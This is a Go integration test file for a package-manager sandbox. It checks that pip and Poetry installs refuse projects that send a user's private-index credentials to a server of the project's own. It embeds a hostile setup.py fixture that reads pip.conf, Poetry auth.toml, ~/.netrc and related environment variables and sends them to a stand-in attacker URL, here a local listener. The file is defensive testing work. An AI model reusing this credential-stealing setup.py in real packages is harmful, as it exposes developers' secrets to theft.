package integration

import (
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"time"
)

// pip's and poetry's resolve steps run package and project code (an sdist's
// setup.py) while holding the user's index credentials: such a step reaches only
// the servers the user configured. A project that names the user's private index
// and a server of its own is refused before anything runs (exit 2, naming the
// file, line and server), and that server hears nothing. Without credentials
// nothing changes; a server the user pins is reachable again.

// credExfilSetupPy reads the user's pip.conf and Poetry auth.toml (and the
// POETRY_HTTP_BASIC_* variables) and sends them to @EVIL@ while its metadata is
// built in the resolve step.
const credExfilSetupPy = `import os, urllib.request, urllib.parse
from setuptools import setup
got = ""
for f in ("~/.config/pip/pip.conf", "~/.config/pypoetry/auth.toml", "~/.netrc"):
    try:
        got += open(os.path.expanduser(f)).read()
    except Exception:
        pass
got += " env=" + ",".join(k + "=" + v for k, v in os.environ.items() if "POETRY_HTTP" in k or k.startswith("PIP_"))
try:
    urllib.request.urlopen("@EVIL@/exfil/" + urllib.parse.quote(got, safe=""), timeout=5).read()
except Exception as e:
    print("exfil failed", e)
# a computed install_requires: Poetry cannot read it statically and runs this file
setup(name="pbox-exfil", version="1.0", py_modules=[], install_requires=[r for r in ["pbox-dep>=1.0"]])
`

func credWantNoHit(t *testing.T, evil *pyIndex, password string, r result) {
	t.Helper()
	for _, h := range evil.Hits() {
		if strings.Contains(h, password) {
			t.Errorf("the password reached the project's server: %s", h)
		} else {
			t.Errorf("the project's server was reached: %s\n%s", h, r)
		}
	}
}

// TestCredHostsPoetry: a3's probe — a project using the user's private source
// (credentials in auth.toml) that names a second source, or a url dependency, on
// a listener of its own — is refused naming pyproject.toml and the server, the
// listener receiving nothing. Twins: the same project with the listener pinned in
// the user's Poetry config locks; a project using only the private source
// installs with its credentials.
func TestCredHostsPoetry(t *testing.T) {
	t.Parallel()
	poetryNeed(t)
	forEachMode(t, func(t *testing.T, m mode) {
		ix := pyGreetIndex(t)
		evil := regStartPyIndex(t)
		password := "pbox-private-" + strconv.Itoa(os.Getpid())
		priv := startPoetryAuthIndex(t, ix, "pbox", password)
		db := regMalDB(t, m, "PyPI")
		b := poetryPrivateProject(t, m, priv, password)
		containmentOnly(t, m, b.Home) // the sandbox alone: a hostile fixture
		ix.AddSdist("pbox-exfil", "1.0", map[string]string{"setup.py": strings.ReplaceAll(credExfilSetupPy, "@EVIL@", evil.URL)})
		evilHost := "127.0.0.1:" + strconv.Itoa(evil.Port)
		head := "[tool.poetry]\nname = \"proj\"\nversion = \"0.1.0\"\ndescription = \"\"\nauthors = [\"pbox <pbox@example.invalid>\"]\npackages = []\n\n" +
			"[tool.poetry.dependencies]\npython = \"^3.9\"\npbox-exfil = \"*\"\n"
		private := "\n[[tool.poetry.source]]\nname = \"private\"\nurl = \"" + priv.URL + "/simple/\"\ndefault = true\n"
		mirror := "\n[[tool.poetry.source]]\nname = \"mirror\"\nurl = \"" + evil.URL + "/simple/\"\nsecondary = true\n"
		tail := "\n[build-system]\nrequires = [\"poetry-core\"]\nbuild-backend = \"poetry.core.masonry.api\"\n"
		pyproject := filepath.Join(b.Project, "pyproject.toml")

		for _, tc := range []struct{ name, py, line string }{
			{"a second source", head + private + mirror + tail, "pyproject.toml:19"},
			{"a url dependency", head + "pbox-x = {url = \"" + evil.URL + "/files/pbox_x-1.0.tar.gz\"}\n" + private + tail, "pyproject.toml:11"},
		} {
			writeFile(t, pyproject, tc.py, 0o644)
			chownTree(t, m, b.Project)
			before := treeHash(t, b.Project, true)
			r := b.poetry(db, "lock")
			credWantNoHit(t, evil, password, r)
			wantCode(t, r, 2, tc.name+" on a server of the project's, with the user's credentials held")
			wantStderr(t, r, tc.line, evilHost, "poetry config repositories.")
			if strings.Contains(r.Stdout+r.Stderr, password) {
				t.Errorf("the password was printed\n%s", r)
			}
			assertSameTree(t, before, treeHash(t, b.Project, true), "a refused lock")
		}

		// Twin: the user pins the project's second source — it is theirs now.
		writeFile(t, pyproject, head+private+mirror+tail, 0o644)
		writeFile(t, filepath.Join(b.Home, ".config", "pypoetry", "config.toml"),
			"[repositories.private]\nurl = \""+priv.URL+"/simple/\"\n\n[repositories.mirror]\nurl = \""+evil.URL+"/simple/\"\n", 0o600)
		chownTree(t, m, b.Home)
		chownTree(t, m, b.Project)
		r := b.poetry(db, "lock")
		wantCode(t, r, 0, "the same project with its second source pinned in the user's Poetry config")
		if lock, err := os.ReadFile(filepath.Join(b.Project, "poetry.lock")); err != nil || !strings.Contains(string(lock), "pbox-exfil") {
			t.Errorf("poetry.lock was not written with pbox-exfil: %v\n%s", err, r)
		}

		// Twin: only the user's private source, installed with its credentials.
		writeFile(t, filepath.Join(b.Home, ".config", "pypoetry", "config.toml"), "[repositories.private]\nurl = \""+priv.URL+"/simple/\"\n", 0o600)
		writeFile(t, pyproject, strings.Replace(head, "pbox-exfil", "pbox-greet", 1)+private+tail, 0o644)
		os.Remove(filepath.Join(b.Project, "poetry.lock"))
		chownTree(t, m, b.Home)
		chownTree(t, m, b.Project)
		okBefore, _ := priv.counts()
		r = b.poetry(db, "install", "--no-root")
		wantCode(t, r, 0, "poetry install from the user's private source only")
		if ok, _ := priv.counts(); ok == okBefore {
			t.Errorf("the private index never saw the credentials\n%s", r)
		}
		out, err := exec.Command(filepath.Join(b.Project, ".venv", "bin", "python"), "-c", "import pbox_greet; print(pbox_greet.GREETING)").CombinedOutput()
		if err != nil || strings.TrimSpace(string(out)) != "hello dep" {
			t.Errorf("the installed package does not import: %v %s\n%s", err, out, r)
		}
	})
}

func (b *box) pipNoIndexEnv(db string, args ...string) result {
	b.t.Helper()
	return invocation{Mode: b.Mode, Args: append([]string{"pip"}, args...), Dir: b.Project, Home: b.Home,
		Env:     []string{"PHYLUM_BOX_DB=" + db, "PIP_DISABLE_PIP_VERSION_CHECK=1"},
		Timeout: 4 * time.Minute}.exec(b.t)
}

// TestCredHostsPip: the user's pip.conf has index-url with user:password for a
// private index; the project's requirements.txt adds --extra-index-url to a
// listener and an sdist whose setup.py sends the pip.conf there: exit 2 naming
// requirements.txt:1 and the listener, which hears nothing. Twins: without the
// extra index it installs from the private index with its credentials (the
// listener still hears nothing); with no credentials in pip.conf the project's
// extra index is reachable as before.
func TestCredHostsPip(t *testing.T) {
	t.Parallel()
	pyNeed(t)
	forEachMode(t, func(t *testing.T, m mode) {
		ix := pyGreetIndex(t)
		evil := regStartPyIndex(t)
		password := "pbox-pip-" + strconv.Itoa(os.Getpid())
		priv := startPoetryAuthIndex(t, ix, "pbox", password)
		db := regMalDB(t, m, "PyPI")
		b := pyProject(t, m)
		containmentOnly(t, m, b.Home) // the sandbox alone: a hostile fixture
		ix.AddSdist("pbox-exfil", "1.0", map[string]string{"setup.py": strings.ReplaceAll(credExfilSetupPy, "@EVIL@", evil.URL)})
		privHost := strings.TrimPrefix(priv.URL, "http://")
		pipConf := filepath.Join(b.Home, ".config", "pip", "pip.conf")
		writeFile(t, pipConf, "[global]\nindex-url = http://pbox:"+password+"@"+privHost+"/simple/\n", 0o600)
		chownTree(t, m, b.Home)
		req := filepath.Join(b.Project, "requirements.txt")
		writeFile(t, req, "--extra-index-url "+evil.URL+"/simple/\npbox-exfil\n", 0o644)
		chownTree(t, m, b.Project)
		before := treeHash(t, b.Project, true)
		r := b.pipNoIndexEnv(db, "install", "-r", "requirements.txt")
		credWantNoHit(t, evil, password, r)
		wantCode(t, r, 2, "a requirements file naming another index, with the user's index password held")
		wantStderr(t, r, "requirements.txt:1", "127.0.0.1:"+strconv.Itoa(evil.Port), "pip config set global.extra-index-url")
		if strings.Contains(r.Stdout+r.Stderr, password) {
			t.Errorf("the password was printed\n%s", r)
		}
		assertSameTree(t, before, treeHash(t, b.Project, true), "a refused install")

		// Twin: without the extra index, from the private index with its credentials.
		writeFile(t, req, "pbox-exfil\n", 0o644)
		chownTree(t, m, b.Project)
		r = b.pipNoIndexEnv(db, "install", "-r", "requirements.txt")
		wantCode(t, r, 0, "pip install -r requirements.txt from the user's private index")
		if ok, _ := priv.counts(); ok == 0 {
			t.Errorf("the private index never saw the credentials\n%s", r)
		}
		if mm, _ := filepath.Glob(filepath.Join(sitePackages(t, filepath.Join(b.Project, ".venv")), "pbox_exfil-1.0*-info")); len(mm) == 0 {
			t.Errorf("pbox-exfil was not installed\n%s", r)
		}
		credWantNoHit(t, evil, password, r)

		// Twin: no credentials in pip.conf — the project's extra index is reachable
		// as before.
		writeFile(t, pipConf, "[global]\nindex-url = "+ix.URL+"/simple/\n", 0o600)
		writeFile(t, req, "--extra-index-url "+evil.URL+"/simple/\npbox-exfil\n", 0o644)
		chownTree(t, m, b.Home)
		chownTree(t, m, b.Project)
		r = b.pipNoIndexEnv(db, "install", "-r", "requirements.txt")
		wantCode(t, r, 0, "the same requirements file without credentials anywhere")
		asked := false
		for _, h := range evil.Hits() {
			asked = asked || strings.Contains(h, "/simple/")
			if strings.Contains(h, password) {
				t.Errorf("the password reached the project's server: %s", h)
			}
		}
		if !asked {
			t.Errorf("the project's extra index was not asked (it stays reachable without credentials): %q\n%s", evil.Hits(), r)
		}
	})
}
